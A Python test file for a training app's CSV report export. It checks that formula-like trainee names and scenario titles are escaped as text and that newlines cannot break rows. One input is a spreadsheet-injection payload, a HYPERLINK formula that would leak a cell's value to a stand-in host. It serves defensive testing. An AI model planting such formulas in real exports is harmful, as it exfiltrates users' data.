"""The trainer's report CSV is opened in spreadsheet programs: a trainee name or scenario title
that looks like a formula stays text, and no cell breaks its row."""

from __future__ import annotations

import csv
from datetime import UTC, datetime, timedelta

from refund_desk.training.grading import grade, model_answer
from refund_desk.training.report import build_report, export_csv
from refund_desk.training.results import AttemptResult

T0 = datetime(2026, 11, 30, 9, 0, tzinfo=UTC)


def test_formula_like_names_and_titles_are_exported_as_text(tmp_path, starter_quotes):
    _, q = starter_quotes["E03-example-1-alipay-voucher"]
    g = grade(q, model_answer(q), scenario_id="E03-example-1-alipay-voucher")
    names = ['=HYPERLINK("http://x.example/?leak="&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)"]
    results = [
        AttemptResult.from_grade(
            name, "starter", "@title\nsecond line", g, T0, T0 + timedelta(seconds=30)
        )
        for name in names
    ]
    path = export_csv(build_report(results, generated_at=T0), tmp_path / "report.csv")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    trainees = {row["trainee"] for row in rows}
    assert trainees == {"'" + name for name in names}
    titles = {row["title"] for row in rows if row["section"] == "scenario"}
    assert titles == {"'@title\\x0asecond line"}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")) and "\n" not in value
